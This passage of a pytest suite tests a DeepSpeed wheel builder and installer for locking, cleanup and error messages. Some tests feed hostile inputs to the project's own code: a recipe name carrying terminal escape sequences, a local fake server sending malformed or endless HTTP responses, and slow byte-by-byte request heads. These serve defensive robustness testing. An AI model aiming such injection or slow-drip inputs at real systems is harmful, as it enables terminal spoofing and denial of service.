        parse_recipe({**data, "ops": [f"op{i}" for i in range(100_000)]})
    dupes = tmp_path / "dupes.toml"
    dupes.write_text(re.sub(r"(?m)^ops = .*$", 'ops = ["cpu_adam", "cpu_lion", "cpu_adam"]', DEFAULT_RECIPE))
    with pytest.raises(RecipeError, match="ops lists cpu_adam more than once"):
        load_recipe(dupes)


@pytest.mark.spawns
def test_control_characters_in_a_recipe_are_shown_escaped_never_sent_to_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "r.toml"
    path.write_text(re.sub(r'(?m)^name = ".*"$', r'name = "evil\\u001b[2J\\u0000name"', DEFAULT_RECIPE))
    done = builder("build-wheel", "--recipe", str(path), "--work-dir", str(tmp_path / "w"))
    assert done.returncode == 2 and "evil\\x1b[2J\\x00name" in done.stderr
    assert "\x1b" not in done.stderr and "\x00" not in done.stderr


def test_a_client_that_drops_a_download_is_one_line_not_a_traceback(
    house: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    import struct
    import threading
    import time

    from builder.wheelhouse.serve import WheelhouseServer, handler_for

    (house / "big.whl").write_bytes(os.urandom(32 << 20))
    server = WheelhouseServer(("127.0.0.1", 0), handler_for(house))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        for _ in range(3):
            client = socket.create_connection(("127.0.0.1", int(server.server_address[1])))
            client.sendall(b"GET /big.whl HTTP/1.1\r\nHost: x\r\n\r\n")
            client.recv(4096)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # a reset, as a killed pip
            client.close()
        time.sleep(1.0)
    finally:
        server.shutdown()
        server.server_close()
    err = capfd.readouterr().err
    assert "Traceback" not in err and "went away mid-transfer" in err


@pytest.mark.spawns
def test_publish_into_a_wheelhouse_path_that_is_a_file_exits_10(tmp_path: Path) -> None:
    wheel = fake_wheel(tmp_path)
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    done = builder("publish", "--wheelhouse", str(blocker), "--work-dir", str(tmp_path / "w"), str(wheel))
    assert done.returncode == 10 and "cannot write to the wheelhouse" in done.stderr and "--wheelhouse" in done.stderr


@pytest.mark.spawns
def test_slurm_status_on_a_missing_or_corrupt_run_folder_exits_2(tmp_path: Path) -> None:
    done = builder("slurm-status", str(tmp_path / "no-such-run"))
    assert done.returncode == 2 and "run.json: cannot be read" in done.stderr and "run folder" in done.stderr
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "run.json").write_text("{not json")
    done = builder("slurm-status", str(tmp_path / "run"))
    assert done.returncode == 2 and "cannot be read as JSON" in done.stderr


@pytest.mark.spawns
def test_a_wheel_name_with_a_cyrillic_letter_is_a_publish_error(tmp_path: Path) -> None:
    wheel = fake_wheel(tmp_path, name=NAME.replace("deepspeed", "deepsp\u0435ed"))  # Cyrillic e
    done = builder("publish", "--wheelhouse", str(tmp_path / "house"), "--work-dir", str(tmp_path / "w"), str(wheel))
    assert done.returncode == 7 and "is not a wheel file name" in done.stderr and "smoke it again" not in done.stderr
    assert not (tmp_path / "house").exists()


def test_verify_tells_a_running_publish_from_a_killed_one(house: Path) -> None:
    from filelock import FileLock

    (house / ".publish-journal.json").write_text('{"files": {}}\n')
    with FileLock(str(house / ".publish.lock")):  # a publish holding the lock: still at work
        import multiprocessing

        with multiprocessing.get_context("fork").Pool(1) as pool:  # another process, as verify would be
            problems = pool.apply(verify, (house,))
    assert any("a publish is in progress" in p for p in problems) and not any("interrupted" in p for p in problems)
    assert any("left by an interrupted publish" in p for p in verify(house))  # the lock is free: it was killed


def test_repair_during_a_live_first_publish_waits_and_removes_nothing(tmp_path: Path) -> None:
    """repair 1-4 s into a first publish removed the published installer (4 of 4 tries): it now
    decides everything under the publish lock, so it waits for the publish and finds nothing to do."""
    import threading
    import time

    started = threading.Event()

    def slow_closure(reqs: Any, tag: str, dest: Path, log: Any) -> list[Path]:
        started.set()
        time.sleep(2.0)  # pip download, while the lock is held and the journal names the new files
        return [dep_wheel(dest, "fakedep-a", "1.0", requires=("fakedep-b>=2",)), dep_wheel(dest, "fakedep-b", "2.1")]

    house = tmp_path / "house"
    (tmp_path / "dist").mkdir()
    wheel = fake_wheel(tmp_path / "dist", metadata=NEEDS_DEPS, cpu_target="x86-64")
    worker = threading.Thread(target=publish, args=([wheel], house), kwargs={"fetch_closure": slow_closure})
    worker.start()
    assert started.wait(30)
    removed = repair(house)  # waits for the lock
    worker.join()
    assert removed == [] and (house / INSTALLER).is_file() and verify(house) == []


def test_dry_run_shows_host_ops_of_a_gpu_wheel_as_cpu_and_never_cuts_a_reason_mid_word() -> None:
    reason = "needs libaio " + "and a very long explanation of why " * 10 + "endword"
    rows = node.op_rows(["cpu_adam", "fused_adam"], {"async_io": reason}, ["9.0"], {}, {}, host_ops=["cpu_adam"])
    lines = {row["op"]: line for row, line in zip(rows, node.format_op_rows(rows), strict=True)}
    assert "archs cpu " in lines["cpu_adam"] and "archs 9.0 " in lines["fused_adam"]
    shown = lines["async_io"].split("(", 1)[1]
    assert shown.endswith(" ...)") and all(w in reason.split() for w in shown[:-5].split())
    build = {"archs": ["9.0"], "ops": ["cpu_adam", "fused_adam"], "op_archs": {"cpu_adam": [], "fused_adam": ["sm_90"]}}
    assert node.host_ops_of(build) == ["cpu_adam"]
    assert node.host_ops_of({**build, "archs": []}) == [] and node.host_ops_of({"ops": ["x"]}) is None


@pytest.mark.spawns
def test_a_killed_builder_takes_its_compilers_with_it(tmp_path: Path) -> None:
    """After kill -9 of build-wheel, setup.py and the compilers ran on as orphans for a minute: a unit
    build runs in a process group a watchdog kills when the builder is gone."""
    import time

    marker = f"sleep 3{os.getpid() % 1000:03d}"
    script = tmp_path / "builder.py"
    script.write_text(f"import sys\nsys.path.insert(0, {str(ROOT)!r})\nfrom builder import cmd\n"
                      f"cmd.run(['sh', '-c', '{marker} & {marker}; wait'], group=True)\n")  # fmt: skip
    proc = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and _count(marker) < 2:
        time.sleep(0.1)
    assert _count(marker) >= 2
    proc.kill()
    proc.wait()
    deadline = time.monotonic() + 30  # the watchdog's start and scan of /proc: seconds on a loaded machine
    while time.monotonic() < deadline and _count(marker):
        time.sleep(0.1)
    assert _count(marker) == 0


def _count(command: str) -> int:
    """Processes whose command line is exactly `command` (read from /proc: no pgrep needed)."""
    found = 0
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            found += cmdline.read_bytes().replace(b"\0", b" ").strip().decode(errors="replace") == command
        except OSError:
            continue
    return found


@pytest.mark.spawns
def test_a_node_python_without_pip_is_named_as_such(deps_house: Path, tmp_path: Path) -> None:
    """It said "the node needs the wheel's torch installed"; the fix is pip for that Python."""
    import venv

    venv.create(tmp_path / "bare", with_pip=False)
    python = str(tmp_path / "bare" / "bin" / "python")
    done = subprocess.run([sys.executable, str(deps_house / INSTALLER), "--wheelhouse", str(deps_house), "--python",
                           python, *trusted()], capture_output=True, text=True, env=air_gapped_env())  # fmt: skip
    assert done.returncode == 9 and "has no pip" in done.stderr and "ensurepip" in done.stderr
    assert "torch" not in done.stderr.split("error:")[-1]


@pytest.mark.spawns
@pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("unshare"), reason="needs root and unshare for a read-only mount"
)
def test_a_read_only_site_packages_is_named_as_such(deps_house: Path, tmp_path: Path) -> None:
    """The node's environment on a read-only mount (an image, a shared software tree)."""
    from nodes import node_venv

    python = node_venv(tmp_path / "node")
    site = next((tmp_path / "node" / "lib").glob("python3.*/site-packages"))
    script = (f"mount --bind {site} {site} && mount -o remount,bind,ro {site} && exec {sys.executable} "
              f"{deps_house / INSTALLER} --wheelhouse {deps_house} --python {python} "
              f"{' '.join(trusted())}")  # fmt: skip
    done = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, env=air_gapped_env())
    assert done.returncode == 9 and "cannot write its site-packages" in done.stderr, done.stderr[-2000:]
    assert "deepspeed" not in subprocess.run([python, "-m", "pip", "list"], capture_output=True, text=True).stdout


# ---------------------------------------------------------------- a hostile server, a FIFO, /dev/zero (issue 38)


class RawServer:
    """A FAKE web server that answers every request with the same raw bytes, then (with `drip`) one
    byte more every `drip` seconds: the misbehaving servers the node installer must survive."""

    def __init__(self, head: bytes, drip: float = 0.0, endless: bool = False) -> None:
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.head, self.drip, self.endless, self.stop = head, drip, endless, False
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}/"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        import threading
        import time

        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return

            def answer(conn: Any = conn) -> None:
                try:
                    conn.recv(65536)
                    conn.sendall(self.head)
                    while (self.drip or self.endless) and not self.stop:
                        conn.sendall(b"x" if self.drip else b"x" * 65536)
                        time.sleep(self.drip)
                except OSError:
                    pass
                finally:
                    conn.close()

            threading.Thread(target=answer, daemon=True).start()

    def close(self) -> None:
        self.stop = True
        self.sock.close()


def node_installer(folder: Path) -> Path:
    """The installer as a wheelhouse ships it (builder/node/ in one file), written into `folder`."""
    path = folder / "ds-node-install.py"
    path.write_bytes(installer.build())
    return path


@pytest.mark.spawns
@pytest.mark.parametrize(
    ("head", "said"),
    [
        (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n", "cannot fetch"),
        (b"HTTP/1.1 200 OK\r\nX-Long: " + b"a" * 200_000 + b"\r\n\r\n", "cannot fetch"),
        (b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: y\r\n" % i for i in range(1000)) + b"\r\n", "cannot fetch"),
        (b"SPDY/9 what\r\n\r\n", "cannot fetch"),
    ],
)  # fmt: skip
def test_a_hostile_server_is_one_line_and_its_exit_code(head: bytes, said: str, tmp_path: Path) -> None:
    """A malformed chunked body, a 200 KB header line, 1000 headers, a bad status line: the node
    installer's one line (exit 9), no traceback, and with --json a JSON error on stdout."""
    server = RawServer(head)
    try:
        done = subprocess.run([sys.executable, str(node_installer(tmp_path)), "--wheelhouse", server.url,
                               "--skip-signature-check", "--json", "--dry-run"], capture_output=True, text=True,
                              timeout=120)  # fmt: skip
    finally:
        server.close()
    assert done.returncode == 9, done.stderr[-2000:]
    assert said in done.stderr and "Traceback" not in done.stderr
    assert json.loads(done.stdout)["exit_code"] == 9


@pytest.mark.spawns
@pytest.mark.parametrize("url", ["http://127.0.0.1:9/a b/", "http://127.0.0.1:9/\x07bell/", "http://[::1/"])
def test_a_wheelhouse_url_that_is_no_url_is_one_line(url: str, tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, str(node_installer(tmp_path)), "--wheelhouse", url,
                           "--skip-signature-check", "--json"], capture_output=True, text=True,
                          timeout=120)  # fmt: skip
    assert done.returncode in (2, 9), done.stderr[-2000:]
    assert "Traceback" not in done.stderr and "error:" in done.stderr
    assert "\x07" not in done.stderr


def test_a_server_that_drips_is_cut_off_by_the_files_deadline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One byte every 0.3 s, under a 2 s timeout per read (each read gets its byte in time): the file's
    own deadline (64 KiB/s on average once past the timeout) ends it within seconds, not years."""
    import time

    monkeypatch.setenv(node.TIMEOUT_ENV, "2")
    server = RawServer(b"HTTP/1.1 200 OK\r\nContent-Length: 10000000\r\n\r\n", drip=0.3)
    start = time.monotonic()
    try:
        with pytest.raises(InstallError, match="less than 64 KiB/s on average: the download would not finish"):
            node.download(server.url, NAME, "wheel", str(tmp_path))
    finally:
        server.close()
    assert time.monotonic() - start < 30


def test_an_endless_wheel_stops_at_its_signed_size(tmp_path: Path) -> None:
    """A server sending a wheel that never ends, for a wheel the manifest says is 3 MB: refused
    after 3 MB (and a read), not 4 GiB."""
    server = RawServer(b"HTTP/1.1 200 OK\r\n\r\n", endless=True)
    try:
        with pytest.raises(ManifestError, match="is longer than the 3000000 bytes the signed manifest gives it"):
            node.download(server.url, NAME, "wheel", str(tmp_path), 3_000_000)
    finally:
        server.close()
    assert (tmp_path / NAME).stat().st_size <= 3_000_000 + (1 << 20)


def test_an_endless_wheel_stops_at_its_limit_streamed_not_held(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A server sending a wheel that never ends: streamed to disk while hashed (the limit lowered to
    20 MiB here, from 4 GiB), refused at the limit."""
    monkeypatch.setitem(node.LIMITS, "wheel", 20 << 20)
    server = RawServer(b"HTTP/1.1 200 OK\r\n\r\n", endless=True)
    try:
        with pytest.raises(ManifestError, match="is larger than the 20 MiB limit for a wheel"):
            node.download(server.url, NAME, "wheel", str(tmp_path))
    finally:
        server.close()


@pytest.mark.spawns
def test_the_installer_runs_under_a_4_gb_address_space_limit(house: Path) -> None:
    """It read a local wheel with f.read(4 GiB + 1): under `ulimit -v 4000000` a MemoryError on a
    2.8 MB wheel. Read in chunks, the dry run passes under that limit."""
    import resource

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (4_000_000 * 1024, 4_000_000 * 1024))

    done = subprocess.run([sys.executable, str(house / INSTALLER), "--wheelhouse", str(house), "--dry-run",
                           *trusted()], capture_output=True, text=True, preexec_fn=limit, timeout=300)  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert "MemoryError" not in done.stderr


@pytest.mark.spawns
@pytest.mark.parametrize("which", ["manifest.json", "manifest.json.sig"])
def test_a_fifo_in_the_wheelhouse_is_refused_not_waited_on(house: Path, which: str) -> None:
    """A FIFO where the manifest or its signature belongs (nobody writes it: a reader would wait
    forever): the node installer and verify name it, within seconds."""
    (house / which).unlink()
    os.mkfifo(house / which)
    done = subprocess.run([sys.executable, str(house / INSTALLER), "--wheelhouse", str(house), "--dry-run",
                           *trusted()], capture_output=True, text=True, timeout=60)  # fmt: skip
    assert done.returncode == 8 and "is a FIFO, not a regular file" in done.stderr, done.stderr[-2000:]
    done = builder("verify", "--wheelhouse", str(house))
    assert done.returncode == 8 and "not a regular file" in done.stderr and "not signed (no" not in done.stderr


@pytest.mark.spawns
def test_a_fifo_or_dev_zero_as_trust_or_config_is_refused_not_waited_on(house: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    done = subprocess.run([sys.executable, str(house / INSTALLER), "--wheelhouse", str(house), "--dry-run",
                           "--trust", str(fifo)], capture_output=True, text=True, timeout=60)  # fmt: skip
    assert done.returncode == 9 and "is a FIFO, not a regular file" in done.stderr, done.stderr[-2000:]
    done = subprocess.run([sys.executable, str(house / INSTALLER), "--wheelhouse", str(house), "--dry-run",
                           "--trust", "/dev/zero"], capture_output=True, text=True, timeout=60)  # fmt: skip
    assert done.returncode == 9 and "is a device, not a regular file" in done.stderr, done.stderr[-2000:]
    import builder.resources.config_check.screen as runner_screen

    for path in (str(fifo), "/dev/zero", str(tmp_path)):
        config, why = runner_screen.read_config_file(path)
        assert config is None and "is not a regular file" in why, why


# ---------------------------------------------------------------- settings that were tracebacks (issue 38)


@pytest.mark.spawns
def test_settings_that_were_tracebacks_are_one_line_and_their_exit_code(house: Path, tmp_path: Path) -> None:
    """DS_NODE_FETCH_TIMEOUT=inf, DS_BUILDER_SIGN_DAYS=² (a digit to str.isdigit, not to int),
    check-config --timeout inf and nan, check-config --python of a Python without DeepSpeed."""
    import venv

    runs = {
        "timeout": subprocess.run(
            [sys.executable, str(house / INSTALLER), "--wheelhouse", "http://127.0.0.1:9/", "--skip-signature-check"],
            capture_output=True,
            text=True,
            env={**os.environ, node.TIMEOUT_ENV: "inf"},
        ),
        "days": subprocess.run(
            [sys.executable, "-m", "builder", "sign", "--wheelhouse", str(house)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            env={**os.environ, "DS_BUILDER_SIGN_DAYS": "²"},
        ),
    }
    assert runs["timeout"].returncode == 9 and "DS_NODE_FETCH_TIMEOUT='inf' is not a number of seconds" in (
        runs["timeout"].stderr
    )
    assert runs["days"].returncode == 2 and "DS_BUILDER_SIGN_DAYS='²' is not a number of days" in runs["days"].stderr
    config = tmp_path / "c.json"
    config.write_text('{"train_batch_size": 1}')
    for value in ("inf", "nan", "0"):
        done = builder("check-config", str(config), "--timeout", value)
        assert done.returncode == 2 and "is not a number of seconds above 0, at most 86400" in done.stderr, done.stderr
    venv.create(tmp_path / "bare", with_pip=False)
    done = builder("check-config", str(config), "--python", str(tmp_path / "bare" / "bin" / "python"))
    assert done.returncode == 2 and "cannot import DeepSpeed (ModuleNotFoundError" in done.stderr, done.stderr
    for run in (*runs.values(), done):
        assert "Traceback" not in run.stderr


def test_a_serial_of_thousands_of_digits_is_refused_as_a_field(house: Path) -> None:
    data = json.loads((house / "manifest.json").read_text())
    data["serial"] = int("9" * 4000)
    text = json.dumps(data)
    with pytest.raises(ManifestError, match="field .serial. is out of range"):
        node.parse_manifest(text)


# ---------------------------------------------------------------- killed midway: nothing left behind (issue 38)


@pytest.mark.spawns
def test_a_scratch_folder_a_killed_run_left_is_removed_by_the_next(tmp_path: Path) -> None:
    """kill -9 runs no cleanup: the next run removes this user's folders of that prefix whose process
    is gone, and leaves a live process's folder alone."""
    gone = subprocess.Popen(["true"])
    gone.wait()
    left = tmp_path / f"ds-sign-{gone.pid}-abc"
    left.mkdir()
    (left / "message").write_text("x")
    alive = tmp_path / f"ds-sign-{os.getppid()}-def"
    alive.mkdir()
    made = node.scratch_dir("ds-sign-", str(tmp_path))
    assert not left.exists() and alive.is_dir()
    assert Path(made).name.startswith(f"ds-sign-{os.getpid()}-")


@pytest.mark.spawns
def test_a_node_install_terminated_midway_leaves_no_temporary_folder(house: Path, tmp_path: Path) -> None:
    """SIGTERM while the wheel downloads (a server dripping it): the installer unwinds, removes its
    folder, exits 143; nothing is installed."""
    import http.server
    import signal
    import threading
    import time

    class Dripping(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a: Any, **k: Any) -> None:
            super().__init__(*a, directory=str(house), **k)

        def do_GET(self) -> None:
            if not self.path.endswith(".whl"):
                return super().do_GET()
            self.send_response(200)
            self.send_header("Content-Length", "10000000")
            self.end_headers()
            for _ in range(600):
                try:
                    self.wfile.write(b"x")
                    self.wfile.flush()
                except OSError:
                    return
                time.sleep(0.1)

        def log_message(self, *a: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Dripping)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    proc = subprocess.Popen([sys.executable, str(house / INSTALLER), "--wheelhouse",
                             f"http://127.0.0.1:{server.server_address[1]}/", *trusted()],
                            stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "TMPDIR": str(scratch), node.TIMEOUT_ENV: "600"})  # fmt: skip
    try:
        # 3 s on a quiet machine; a clean-clone CI with every op compiling beside it once took over
        # 60 s to get here (the node probe imports torch), so the guard is generous and says why.
        deadline = time.monotonic() + 300
        while not list(scratch.glob("ds-install-*")) and time.monotonic() < deadline and proc.poll() is None:
            time.sleep(0.2)
        if not list(scratch.glob("ds-install-*")):
            proc.kill()
            raise AssertionError(f"the install never reached its download: {proc.communicate()[1][-2000:]}")
        time.sleep(1)
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        server.shutdown()
        server.server_close()
    assert proc.returncode == 143, err[-2000:]
    assert list(scratch.iterdir()) == [] and "Traceback" not in err


def test_serve_answers_hundreds_of_nodes_at_once_and_drops_idle_clients(house: Path) -> None:
    """500 GETs at once with a 10 s client limit (149 timed out with a backlog of 5), then a client
    that connects and says nothing: its connection is closed after the handler's timeout (1 s here)."""
    import socket
    import threading
    import time
    import urllib.request
    from concurrent.futures import ThreadPoolExecutor

    from builder.wheelhouse.serve import WheelhouseServer, handler_for

    handler = type("Quick", (handler_for(house),), {"timeout": 1, "log_message": lambda *a: None})
    server = WheelhouseServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/simple/index.html"
    try:

        def get(_: int) -> int:
            with urllib.request.urlopen(url, timeout=10) as response:
                return int(response.status)

        with ThreadPoolExecutor(500) as pool:
            assert list(pool.map(get, range(500))) == [200] * 500
        with socket.create_connection(("127.0.0.1", int(server.server_address[1])), timeout=10) as idle:
            start = time.monotonic()
            assert idle.recv(1) == b""  # closed by the server
            assert time.monotonic() - start < 8
        # Issue 51: a head sent a byte at a time, never silent for the 1 s timeout, is cut at the head
        # deadline (3 s here) instead of holding its thread for as long as the client likes.
        server.head_deadline = 3.0
        with socket.create_connection(("127.0.0.1", int(server.server_address[1])), timeout=20) as drip:
            stop = threading.Event()

            def dripping() -> None:
                for byte in b"GET /simple/index.html HTTP/1.1\r\nX-Slow: " + b"a" * 400:
                    if stop.wait(0.2):
                        return
                    try:
                        drip.send(bytes([byte]))
                    except OSError:
                        return

            threading.Thread(target=dripping, daemon=True).start()
            start = time.monotonic()
            try:
                said = drip.recv(1024)  # nothing until the server gives up on the head
            finally:
                stop.set()
            took = time.monotonic() - start
            assert not said.startswith(b"HTTP/1.0 200") and 2.5 < took < 10, (said[:80], took)
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.spawns
def test_check_config_of_a_file_that_is_no_wheel_is_a_bad_argument(tmp_path: Path) -> None:
    config = tmp_path / "c.json"
    config.write_text('{"train_batch_size": 1}')
    fake = tmp_path / "deepspeed-0.19.8-cp311-cp311-linux_x86_64.whl"
    fake.write_text("not a zip")
    for wheel in (fake, tmp_path / "absent.whl"):
        done = builder("check-config", str(config), "--wheel", str(wheel))
        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
        assert "pass " in done.stderr.split("fix:")[-1]


def test_no_writable_temporary_folder_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    """Python's search for a temporary folder finds none (FAKE: gettempdir made to fail as it does
    when TMPDIR, /tmp, /var/tmp and the working folder are all unwritable)."""

    def none_writable() -> str:
        raise FileNotFoundError(2, "No usable temporary directory found in ['/tmp', '/var/tmp', '/usr/tmp']")

    monkeypatch.setattr("tempfile.gettempdir", none_writable)
    with pytest.raises(InstallError, match="no writable temporary folder") as err:
        node.scratch_dir("ds-install-")
    assert "TMPDIR" in err.value.fix
